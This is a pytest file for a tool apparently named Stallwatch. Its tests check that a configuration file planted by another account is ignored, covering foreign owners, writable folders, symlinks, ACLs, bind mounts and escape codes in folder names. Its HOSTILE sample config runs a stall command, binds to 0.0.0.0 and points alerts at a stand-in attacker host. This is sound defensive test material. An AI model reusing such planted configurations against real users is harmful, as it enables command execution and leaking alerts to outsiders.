"""Another account plants a configuration in a folder in which the user starts Stallwatch."""

from __future__ import annotations

import functools
import json
import os
import shutil
import struct
import subprocess
import sys
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest
from processes import STALLWATCH

from stallwatch.config import trust as trusting
from stallwatch.config.loading import Config, load

Eves = Callable[..., Path]
Attacked = Callable[..., subprocess.CompletedProcess[str]]

HOSTILE = """
[run]
home = "moved"
[exporter]
host = "0.0.0.0"
[stall]
on_stall = "command touch gotcha"
[alerts]
urls = ["json://attacker.invalid/"]
"""

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="Windows has other permissions")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "project"
    made.mkdir(mode=0o755)
    return made


def planted(folder: Path, text: str = HOSTILE) -> Path:
    file = folder / "stallwatch.toml"
    file.write_text(text)
    file.chmod(0o644)
    return file


def refused(folder: Path, because: str) -> Config:
    """Nothing of the planted file is in force, and it is named with the reason and the remedy."""
    config = load(environ={}, cwd=folder)
    assert config.file is None and all(value.source == "default" for value in config.settings.values())
    (ignored,) = config.ignored
    assert because in ignored.message and "stallwatch config trust" in str(ignored)
    return config


def test_root_ignores_the_configuration_in_a_foreign_folder(
    attacked: Attacked, eves: Eves, folder: Path, tmp_path: Path
) -> None:
    """The file's command, address, state folder and chats are refused, and the run continues without them."""
    file = eves(planted(folder))
    eves(folder)
    done = attacked(folder, "run", "--port", "0", "--", "echo", "trained")
    assert (done.returncode, done.stdout) == (0, "trained\n")
    assert f"{file}: ignored, because its folder belongs to another account (uid 65533)" in done.stderr
    assert "0.0.0.0" not in done.stderr and not (folder / "moved").exists()
    assert (tmp_path / "stallwatch-home" / "runs").is_dir()


@pytest.mark.parametrize(
    "command",
    [
        "tail a.log --port 0 --once",
        "relay --host 192.0.2.1",
        "dashboard --host 192.0.2.1",
        "run --port 0 -- true",
        "alerts list",
        "alerts test",
    ],
)
def test_planted_file_is_reported_by_every_command_that_reads_it(
    attacked: Attacked, folder: Path, command: str
) -> None:
    """No command stays silent about alerts that it does not send."""
    planted(folder).chmod(0o666)
    (folder / "a.log").write_text("step 1\n")
    done = attacked(folder, *command.split())
    assert done.stderr.count("ignored, because every account can write to it") == 1


def test_alerts_test_reports_an_ignored_configuration(attacked: Attacked, folder: Path) -> None:
    """``alerts test`` fails with the remedy, though the only chat left took the message."""

    class Chat(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    planted(folder).chmod(0o666)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Chat)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    chat = f"json://127.0.0.1:{server.server_port}/"
    done = attacked(folder, "alerts", "test", env={"STALLWATCH_ALERTS_URLS": chat})
    server.shutdown()
    server.server_close()
    assert done.stdout.startswith("ok ") and done.returncode == 1
    assert "stallwatch config trust" in done.stderr


def test_configuration_in_a_world_writable_folder_is_ignored(eves: Eves, folder: Path) -> None:
    """A file of another account in ``/tmp`` is refused."""
    folder.chmod(0o1777)
    eves(planted(folder))
    refused(folder, "every account can write to its folder")


def test_foreign_file_in_the_users_folder_is_ignored(eves: Eves, folder: Path) -> None:
    """Extracted by root from an archive, it keeps its owner: refused."""
    eves(planted(folder))
    refused(folder, "it belongs to another account")


def test_configuration_in_a_foreign_mount_is_ignored(attacked: Attacked, eves: Eves, folder: Path) -> None:
    """Under a bind mount, owners stay what they are: root of a container does not obey the user's file."""
    if subprocess.run(["unshare", "--mount", "true"], capture_output=True, check=False).returncode:
        pytest.skip("no right to mount")
    source = folder.with_name("home")
    source.mkdir()
    eves(planted(source), source)
    script = f'mount --bind "{source}" "{folder}" && cd "{folder}" && "$@"'
    done = subprocess.run(
        ["unshare", "--mount", "sh", "-c", script, "sh", *STALLWATCH, "config", "show"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert f"file: {folder / 'stallwatch.toml'} (ignored, because its folder belongs to" in done.stdout
    assert "touch gotcha" not in done.stdout


def test_foreign_configuration_in_the_parent_folder_is_ignored(folder: Path) -> None:
    """Parents are not searched, regardless of their owner."""
    planted(folder.parent)
    config = load(environ={}, cwd=folder)
    assert (config.file, config.ignored, config["stall.on_stall"]) == (None, [], "report")


def test_foreign_symlink_to_the_users_file_is_ignored(eves: Eves, folder: Path) -> None:
    """Others cannot choose which of the user's files is read."""
    own = planted(folder.parent)
    link = folder / "stallwatch.toml"
    link.symlink_to(own)
    eves(link)
    refused(folder, "the link to it belongs to another account")


def test_symlink_of_the_user_to_a_foreign_file_is_ignored(eves: Eves, folder: Path) -> None:
    """The owner of the file counts, not that of the link."""
    (folder / "stallwatch.toml").symlink_to(eves(planted(folder.parent)))
    refused(folder, "it belongs to another account")


def test_symlink_through_a_writable_folder_is_ignored(folder: Path) -> None:
    """There they can put another of the user's files, or a link of their own, in its place."""
    shared = folder.parent / "shared"
    shared.mkdir()
    (shared / "team.toml").symlink_to(planted(folder.parent))
    shared.chmod(0o777)
    (folder / "stallwatch.toml").symlink_to(shared / "team.toml")
    refused(folder, "every account can write to its folder")


def test_configuration_replaced_during_reading_is_ignored(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The checks are about the file that was opened; one that took its name since is refused."""
    file, opened = planted(folder), trusting._opened

    def opens(path: Path) -> object:
        found = opened(path)
        planted(folder.parent).replace(file)
        return found

    monkeypatch.setattr(trusting, "_opened", opens)
    refused(folder, "it was replaced while it was read")


def test_named_pipe_in_place_of_the_configuration_is_ignored(folder: Path) -> None:
    """It is not a file, and Stallwatch does not wait for what is written to it."""
    os.mkfifo(folder / "stallwatch.toml")
    assert load(environ={}, cwd=folder).file is None
    with pytest.raises(trusting.Untrusted, match="not a regular file"):
        trusting.read_if_trusted(folder / "stallwatch.toml")


@pytest.mark.skipif(sys.platform != "linux", reason="POSIX ACLs are Linux's")
@pytest.mark.parametrize("at", ["file", "folder"])
def test_configuration_with_a_foreign_access_list_is_ignored(
    folder: Path, monkeypatch: pytest.MonkeyPatch, at: str
) -> None:
    """The mode shows the list's mask as the bits of a private group, which excuses nothing here."""
    file = planted(folder)
    monkeypatch.setattr("pwd.getpwall", list)
    monkeypatch.setattr(trusting, "_is_alone", functools.cache(trusting._is_alone.__wrapped__))
    path = file if at == "file" else folder
    # ACL version 2: owner rwx, eve rwx, group r-x, mask rwx, others r-x.
    entries = [(1, 7, -1), (2, 7, 65533), (4, 5, -1), (16, 7, -1), (32, 5, -1)]
    packed = struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)
    try:
        os.setxattr(path, "system.posix_acl_access", packed)
    except OSError:
        pytest.skip("the file system has no ACLs")
    refused(folder, "can write to it" if at == "file" else "can write to its folder")


def test_configuration_writable_by_a_private_group_is_read(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With ``umask 002`` the group's bit is allowed only while the owner is its only member."""
    planted(folder).chmod(0o664)
    account = SimpleNamespace(pw_name="ann", pw_gid=os.getegid())
    monkeypatch.setattr(trusting, "_is_alone", functools.cache(trusting._is_alone.__wrapped__))
    monkeypatch.setattr("pwd.getpwuid", lambda _: account)
    monkeypatch.setattr("pwd.getpwall", lambda: [account])
    group = SimpleNamespace(gr_name="ann", gr_gid=os.getegid(), gr_mem=["ann"])
    monkeypatch.setattr("grp.getgrgid", lambda _: group)
    assert load(environ={}, cwd=folder).file is not None
    group.gr_mem = ["ann", "eve"]
    trusting._is_alone.cache_clear()
    refused(folder, "the group ann can write to it")


def test_trusted_file_that_changes_is_no_longer_trusted(eves: Eves, folder: Path) -> None:
    """Trust depends on the content: a changed file must be trusted again."""
    file = eves(planted(folder))
    trusting.trust(file)
    assert load(environ={}, cwd=folder).file == file
    file.write_text(HOSTILE + "# one comment more")
    refused(folder, "it was changed after you trusted it")


def test_copy_of_a_trusted_file_is_not_trusted(folder: Path) -> None:
    """Trust also depends on the path: relative paths have another meaning in another folder."""
    file = planted(folder)
    file.chmod(0o666)
    trusting.trust(file)
    elsewhere = folder.with_name("elsewhere")
    elsewhere.mkdir()
    shutil.copy2(file, elsewhere)
    refused(elsewhere, "every account can write to it")


@pytest.mark.parametrize("how", ["owner", "mode", "folder"])
def test_planted_list_of_trusted_files_is_ignored(eves: Eves, folder: Path, how: str) -> None:
    """The list counts only if no other account can have written it."""
    file = planted(folder)
    file.chmod(0o666)
    trusting.trust(file)
    path = trusting.trust_file()
    assert path.stat().st_mode & 0o777 == 0o600 and load(environ={}, cwd=folder).file == file
    if how == "owner":
        eves(path)
    else:
        (path if how == "mode" else path.parent).chmod(0o777)
    refused(folder, "every account can write to it")


def test_terminal_codes_in_the_folder_name_are_removed(attacked: Attacked, folder: Path) -> None:
    """Neither the notice nor ``config show`` and ``config trust`` pass them on."""
    hostile = folder / "\x1b]0;title\x07\x1b[2J"
    hostile.mkdir()
    planted(hostile).chmod(0o666)
    for arguments in (["config", "show"], ["config", "trust", "stallwatch.toml"], ["config", "trust"]):
        done = attacked(hostile, *arguments)
        assert done.returncode == 0 and "stallwatch.toml" in done.stdout
        assert "\x1b" not in done.stdout + done.stderr


def test_symlink_in_place_of_the_list_of_trusted_files_is_not_followed(folder: Path, tmp_path: Path) -> None:
    """What the link leads to stays as it is."""
    victim, path = tmp_path / "victim", trusting.trust_file()
    victim.write_text("{}")
    path.parent.mkdir(parents=True)
    path.symlink_to(victim)
    trusting.trust(planted(folder))
    assert victim.read_text() == "{}" and len(json.loads(path.read_text())) == 1
